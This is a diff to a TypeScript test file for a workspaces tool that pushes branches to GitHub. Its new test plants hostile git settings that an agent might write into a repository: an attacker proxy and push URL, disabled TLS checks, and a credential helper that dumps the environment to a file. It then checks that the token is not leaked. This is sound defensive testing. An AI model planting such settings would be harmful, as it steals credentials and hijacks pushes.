@@ -1,10 +1,18 @@
 import { once } from 'node:events';
 import { chmod, readdir } from 'node:fs/promises';
 import { createServer } from 'node:http';
-import type { AddressInfo } from 'node:net';
+import { type AddressInfo, createServer as createTcpServer } from 'node:net';
 import path from 'node:path';
 import { describe, expect, it } from 'vitest';
-import { ask, createGround, git, never, quiet, writeFiles } from '../../../test/support/git-ground.ts';
+import {
+  ask,
+  createGround,
+  git,
+  gitEnvironment,
+  never,
+  quiet,
+  writeFiles,
+} from '../../../test/support/git-ground.ts';
 import type { WorkspacesOptions } from '../options.ts';
 
 const name = 'ai-dev-shop-x';
@@ -15,11 +23,15 @@ async function createBench(options: Partial<WorkspacesOptions> = {}, address?: s
   const ground = await createGround();
   const api = await ground.addRepository('api');
   await ground.addRepository('web');
+  let environment: Record<string, string> = gitEnvironment;
   if (address !== undefined) {
     await git(api, 'config', 'remote.origin.url', address);
-    await git(api, 'config', `url.${ground.remoteOf('api')}.insteadOf`, address);
+    // As a person may have it: a repository's own configuration does not count beside a token.
+    const ofPerson = path.join(ground.root, 'gitconfig');
+    await git(ground.root, 'config', '--file', ofPerson, `url.${ground.remoteOf('api')}.insteadOf`, address);
+    environment = { ...gitEnvironment, GIT_CONFIG_GLOBAL: ofPerson };
   }
-  const workspaces = await ground.open(options);
+  const workspaces = await ground.open({ environment, ...options });
   const { info } = await workspaces.create(
     ask('X', { repositories: ['api', 'web'], description: 'All of it.' }),
     quiet,
@@ -32,7 +44,7 @@ async function createBench(options: Partial<WorkspacesOptions> = {}, address?: s
     await git(worktree, 'commit', '-q', '-m', text);
   };
   await commit('one');
-  return { ground, workspaces, worktree, commit, remote: ground.remoteOf('api') };
+  return { ground, workspaces, worktree, commit, environment, remote: ground.remoteOf('api') };
 }
 
 interface Pull {
@@ -76,6 +88,27 @@ async function startGithub(token: string) {
     async [Symbol.asyncDispose]() {
       server.close();
       server.closeAllConnections();
+      await once(server, 'close');
+    },
+  };
+}
+
+/** A proxy that nobody should use. */
+async function startThief() {
+  let knocks = 0;
+  const server = createTcpServer((socket) => {
+    knocks += 1;
+    socket.destroy();
+  });
+  server.listen(0, '127.0.0.1');
+  await once(server, 'listening');
+  return {
+    url: `http://127.0.0.1:${(server.address() as AddressInfo).port}`,
+    get knocks() {
+      return knocks;
+    },
+    async [Symbol.asyncDispose]() {
+      server.close();
       await once(server, 'close');
     },
   };
@@ -126,7 +159,10 @@ describe('promote', () => {
     await using _ = bench.ground;
     const [plain] = (await bench.workspaces.promote(name)).repositories;
     expect(plain).toMatchObject({ compareUrl, remote: 'https://github.com/acme/api.git', outcome: 'pushed' });
-    const refused = await bench.ground.open({ github: { token: 'wrong', apiUrl: github.url } });
+    const refused = await bench.ground.open({
+      environment: bench.environment,
+      github: { token: 'wrong', apiUrl: github.url },
+    });
     const [entry] = (await refused.promote(name)).repositories;
     expect(entry).toMatchObject({ outcome: 'pushed', compareUrl });
     expect(entry?.note).toContain('GitHub said 401: Bad credentials. Check that the token');
@@ -163,5 +199,29 @@ describe('promote', () => {
     await chmod(path.join(hooks, 'pre-push'), 0o755);
     expect((await bench.workspaces.promote(name)).repositories[0]).toMatchObject({ outcome: 'pushed' });
     expect(await readdir(bench.ground.root)).not.toContain('leaked');
+  });
+
+  it('WS-5: what an agent put into the repository’s configuration gets no token', async () => {
+    await using github = await startGithub('ghp_secret');
+    await using thief = await startThief();
+    const setting = { token: 'ghp_secret', apiUrl: github.url };
+    const bench = await createBench({ github: setting }, 'https://github.com/acme/api.git');
+    await using _ = bench.ground;
+    // Each of these would have the thief answer instead of GitHub.
+    await git(bench.worktree, 'config', 'http.sslVerify', 'false');
+    await git(bench.worktree, 'config', 'http.https://github.com/.proxy', thief.url);
+    await git(bench.worktree, 'config', 'remote.origin.pushurl', `${thief.url}/acme/api.git`);
+    await git(bench.worktree, 'config', 'credential.helper', `!env > ${bench.ground.root}/leaked; true`);
+    const [entry] = (await bench.workspaces.promote(name)).repositories;
+    expect(entry).toMatchObject({ outcome: 'pushed', commits: 1 });
+    expect(await git(bench.remote, 'log', '-1', '--format=%s', branch)).toBe('one');
+    expect(await git(bench.worktree, 'log', '-1', '--format=%s', `origin/${branch}`)).toBe('one');
+    expect(thief.knocks).toBe(0);
+    expect(await readdir(bench.ground.root)).not.toContain('leaked');
+    await bench.commit('two');
+    expect((await bench.workspaces.promote(name)).repositories[0]).toMatchObject({ outcome: 'pushed' });
+    await git(bench.worktree, 'commit', '-q', '--amend', '-m', 'other');
+    const [late] = (await bench.workspaces.promote(name)).repositories;
+    expect(late?.note).toContain('The remote has commits of this branch that are not here');
   });
 });
